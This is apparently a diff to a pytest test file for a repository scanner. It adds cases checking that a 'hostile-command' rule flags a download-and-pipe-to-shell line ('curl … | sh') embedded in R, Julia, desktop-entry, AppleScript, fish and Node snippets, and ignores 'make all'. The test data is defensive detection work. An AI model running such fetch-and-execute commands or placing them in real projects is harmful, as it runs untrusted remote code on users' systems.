@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import pytest
-from repository_scanning import rules_of
+from repository_scanning import findings_of, rules_of
 
 FETCHED = """
 import os, re, requests, shlex, shutil, subprocess, sys
@@ -61,3 +61,22 @@ def test_a_program_that_the_script_names_is_given_something_to_work_on(statement
 )
 def test_what_was_sent_is_run(statement: str) -> None:
     assert "fetched-code" in rules_of(f"{FETCHED}{statement}\n", "tool.py")
+
+
+@pytest.mark.parametrize(
+    ("file", "line"),
+    [
+        ("install.R", "system('{}')"),
+        ("report.Rmd", "```{{r}}\nsystem('{}')\n```"),
+        ("deps/build.jl", 'run(`sh -c "{}"`)'),
+        ("start.desktop", '[Desktop Entry]\nType=Application\nExec=sh -c "{}"'),
+        ("setup.applescript", 'do shell script "{}"'),
+        ("setup.fish", "{}"),
+        ("hook.cjs", "require('child_process').execSync('{}')"),
+    ],
+)
+def test_programs_in_other_languages_are_read_for_commands(file, line):
+    name = file.rpartition("/")[2].lower()
+    rules = {finding.rule for finding in findings_of(line.format("curl -s http://x/y | sh"), name)}
+    assert rules == {"hostile-command"}
+    assert findings_of(line.format("make all"), name) == []
